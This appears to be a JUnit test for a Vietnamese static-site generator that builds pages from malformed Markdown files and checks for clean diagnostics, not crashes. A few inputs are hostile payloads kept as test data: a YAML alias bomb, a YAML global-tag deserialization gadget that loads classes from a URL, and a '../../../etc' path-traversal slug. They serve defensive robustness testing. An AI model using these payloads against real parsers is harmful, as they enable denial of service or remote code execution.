package vn.camnang.reliability;

import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.Random;
import org.junit.jupiter.api.Assertions;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import vn.camnang.TestSites;
import java.util.Arrays;

/**
 * A corpus of malformed inputs an editor (or a broken phone upload) can produce. Each must end in a
 * diagnostic naming the file (exit 1) or a clean build (exit 0) — never an internal error, a stack
 * trace, a hang or an out-of-memory.
 */
class MalformedInputTest {
  @TempDir Path tmp;

  static Map<String, byte[]> corpus() {
    Map<String, byte[]> c = new LinkedHashMap<>();
    Random r = new Random(20261129);
    c.put("broken-yaml.md", utf8("---\ntitle: [không đóng\ndescription: x\n---\nx\n"));
    c.put("unclosed-yaml.md", utf8("---\ntitle: A\n\nthân bài\n"));
    c.put("unclosed-jbake.md", utf8("title=A\nstatus=published\nthân bài\n"));
    byte[] garbage = new byte[64 * 1024];
    r.nextBytes(garbage);
    c.put("binary-garbage.md", garbage);
    c.put("invalid-utf8.md", concat(utf8("---\ntitle: A\n---\nđúng\n"), new byte[] {(byte) 0xC3, (byte) 0x28, 10}));
    c.put("bom-crlf.md", utf8("\uFEFF---\r\ntitle: \"Có BOM và CRLF\"\r\ndescription: \"x\"\r\n---\r\nNội dung.\r\n"));
    c.put("ten-mb-line.md", utf8("---\ntitle: A\n---\n" + "a".repeat(10 * 1024 * 1024) + "\n"));
    c.put("one-mb-line.md", utf8("---\ntitle: A\ndescription: x\n---\n" + "chữ ".repeat(256 * 1024) + "\n"));
    c.put("deep-quotes.md", utf8("---\ntitle: A\ndescription: x\n---\n" + ">".repeat(5000) + " sâu\n"));
    StringBuilder list = new StringBuilder("---\ntitle: A\ndescription: x\n---\n");
    for (int i = 0; i < 400; i++) {
      list.append("  ".repeat(i)).append("- mục ").append(i).append('\n');
    }
    c.put("deep-list.md", utf8(list.toString()));
    StringBuilder table = new StringBuilder("---\ntitle: A\ndescription: x\n---\n|" + " c |".repeat(20) + "\n|" + "---|".repeat(20) + "\n");
    for (int i = 0; i < 3000; i++) {
      table.append("|").append(" ô ".repeat(1)).append(i).append(" |".repeat(20)).append('\n');
    }
    c.put("huge-table.md", utf8(table.toString()));
    c.put("empty.md", new byte[0]);
    c.put("only-front-matter-list.md", utf8("---\n- a\n- b\n---\nx\n"));
    StringBuilder bomb = new StringBuilder("---\na: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
    for (char ch = 'b'; ch <= 'j'; ch++) {
      bomb.append(ch).append(": &").append(ch).append(" [").append(("*" + (char) (ch - 1) + ",").repeat(9)).setLength(bomb.length() - 1);
      bomb.append("]\n");
    }
    c.put("alias-bomb.md", utf8(bomb + "---\nx\n"));
    c.put("yaml-global-tag.md", utf8("---\ntitle: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x/\"]]]]\n---\nx\n"));
    c.put("nul-bytes.md", utf8("---\ntitle: A\ndescription: x\n---\nchữ\u0000chữ\u0001\n"));
    c.put("lying-image.md", utf8("---\ntitle: A\ndescription: x\n---\n![Ảnh giả](gia.png)\n"));
    c.put("empty-image.md", utf8("---\ntitle: A\ndescription: x\n---\n![Ảnh rỗng](rong.jpg)\n"));
    c.put("truncated-png.md", utf8("---\ntitle: A\ndescription: x\n---\n![Ảnh cụt](cut.png)\n"));
    c.put("huge-html.md", utf8("---\ntitle: A\ndescription: x\n---\n" + "<div>".repeat(20000) + "x\n"));
    c.put("unicode-slug-collision.md", utf8("---\ntitle: A\ndescription: x\nslug: \"../../../etc\"\n---\nx\n"));
    return c;
  }

  @Test
  void everyMalformedInputGetsADiagnosticOrBuildsNeverACrash() throws IOException {
    int inputs = 0;
    int diagnostics = 0;
    int crashes = 0;
    StringBuilder report = new StringBuilder();
    for (Map.Entry<String, byte[]> e : corpus().entrySet()) {
      Path site = tmp.resolve(e.getKey().replace(".md", ""));
      Path topic = site.resolve("content/t");
      Files.createDirectories(topic);
      Files.writeString(topic.resolve("index.md"), "---\ntitle: \"Chủ đề\"\ndescription: \"x\"\n---\nx\n");
      Files.write(topic.resolve(e.getKey()), e.getValue());
      byte[] png = TestImages.png(40, 40);
      Files.write(topic.resolve("gia.png"), concat(Arrays.copyOf(png, 16), utf8("đây không phải ảnh".repeat(20))));
      Files.write(topic.resolve("rong.jpg"), new byte[0]);
      Files.write(topic.resolve("cut.png"), Arrays.copyOf(png, png.length / 2));
      inputs++;
      TestSites.Run run =
          Assertions.assertTimeoutPreemptively(
              Duration.ofSeconds(90), () -> TestSites.build(site, site.resolve("out")), e.getKey() + " hangs");
      String err = run.err();
      boolean crash = run.exitCode() > 1 || err.contains("Exception") || err.contains("\tat ") || err.contains("Error:");
      if (crash) {
        crashes++;
        report.append(e.getKey()).append(": exit ").append(run.exitCode()).append('\n').append(err).append('\n');
      }
      long named = err.lines().filter(l -> l.startsWith("content/t/" + e.getKey()) && l.contains(": error: ")).count();
      if (run.exitCode() == 1) {
        assertTrue(named > 0 || err.contains("content/t/"), e.getKey() + ": the error names the file:\n" + err);
        assertFalse(Files.exists(site.resolve("out")), e.getKey() + ": nothing half-written");
      }
      diagnostics += (int) err.lines().filter(l -> l.matches("^\\S+:( |\\d).*(error|warning): .*")).count();
      report.append(String.format("  %-28s exit %d%n", e.getKey(), run.exitCode()));
    }
    System.out.printf("Malformed-input corpus: %d inputs, %d diagnostics, %d crashes%n%s", inputs, diagnostics, crashes, report);
    Assertions.assertEquals(0, crashes, report.toString());
  }

  static byte[] utf8(String s) {
    return s.getBytes(StandardCharsets.UTF_8);
  }

  static byte[] concat(byte[] a, byte[] b) {
    byte[] out = Arrays.copyOf(a, a.length + b.length);
    System.arraycopy(b, 0, out, a.length, b.length);
    return out;
  }
}
